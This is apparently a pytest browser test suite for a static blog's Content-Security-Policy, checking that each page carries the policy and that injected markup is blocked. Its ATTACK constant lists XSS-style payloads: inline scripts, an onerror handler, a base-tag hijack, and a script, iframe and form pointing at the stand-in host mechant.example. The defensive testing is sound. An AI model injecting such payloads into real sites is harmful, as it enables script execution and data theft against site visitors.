"""A host that sends no headers of ours: the policy stands in each page, and a browser holds to it."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator

import pytest

from tests.conftest import BLOG, BLOG_SETTINGS, Built, pelican, served

PAGES = (
    "/",
    "/2024/02/dix-mille-clics/",
    "/2025/03/film-du-carnet/",
    "/2024/06/causerie-ailleurs/",
    "/tags/",
    "/preuves/",
    "/recherche/?q=carnet",
    "/404.html",
)
ATTACK = """<script>window.hacked = "script"</script>
<img src="/rien.png" onerror="window.hacked = 'handler'" alt="">
<script src="https://mechant.example/a.js"></script>
<base href="https://mechant.example/">
<style>body { color: red }</style>
<iframe src="https://mechant.example/cadre"></iframe>
<form action="https://mechant.example/pris"><input name="mot"></form>"""

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Built:
    folder = tmp_path_factory.mktemp("sans-en-tetes")
    cache = f'CACHE_PATH="{folder / "cache"}"'
    made = pelican(BLOG, folder / "output", *BLOG_SETTINGS, cache, 'PLANCHER_HOSTING={"host": "github"}', settings="public")
    assert made.code == 0, made.said
    return made


@pytest.fixture(scope="module")
def host(pages: Built) -> Iterator[str]:
    with served(pages) as address:
        yield address


def test_the_policy_stands_in_every_page_before_anything_that_it_rules(pages: Built) -> None:
    for path in sorted(pages.output.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        if "<title>Nouvelle adresse" in text or path.name == "liens.html":
            continue
        policies = [html.unescape(found) for found in re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)]
        assert len(policies) == 1, path
        assert "default-src 'none'" in policies[0]
        assert "unsafe" not in policies[0]
        assert "frame-ancestors" not in policies[0]  # a browser complains of it there
        assert text.index("Content-Security-Policy") < min(text.index("<script"), text.index("<link")), path


def test_each_kind_of_page_works_as_if_nothing_were_there(chromium, host: str) -> None:
    page = chromium.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.add_init_script("addEventListener('securitypolicyviolation', e => (window.broken = [...(window.broken || []), e.violatedDirective]))")
    page.route("https://embed.ted.com/**", lambda route: route.fulfill(body="un film", content_type="text/html"))
    for path in PAGES:
        page.goto(f"{host}{path}")
        assert page.evaluate("window.broken || []") == [], path
    page.goto(f"{host}/recherche/?q=carnet")
    page.wait_for_selector("main li a")
    page.goto(f"{host}/2024/06/causerie-ailleurs/")
    page.get_by_role("button", name="Lire ici").click()
    assert page.frame_locator("talk-player iframe").locator("body").inner_text() == "un film"
    assert page.evaluate("window.broken || []") == []
    assert said == []
    page.close()


def test_what_somebody_puts_into_a_page_does_not_run_and_reaches_nobody(chromium, host: str) -> None:
    page = chromium.new_page()
    reached: list[str] = []

    def poisoned(route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<main", f"{ATTACK}<main", 1))

    def elsewhere(route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="window.hacked = 'elsewhere'", content_type="text/javascript")

    page.add_init_script("addEventListener('securitypolicyviolation', e => (window.broken = [...(window.broken || []), e.effectiveDirective]))")
    page.route("https://mechant.example/**", elsewhere)
    page.route(f"{host}/2024/02/dix-mille-clics/", poisoned)
    page.goto(f"{host}/2024/02/dix-mille-clics/")
    page.evaluate("document.querySelector('form[action*=mechant]').submit()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert reached == []
    assert page.evaluate("document.baseURI").startswith(host)
    expected = {"script-src-elem", "script-src-attr", "base-uri", "style-src-elem", "frame-src", "form-action"}
    assert expected <= set(page.evaluate("window.broken"))
    page.close()
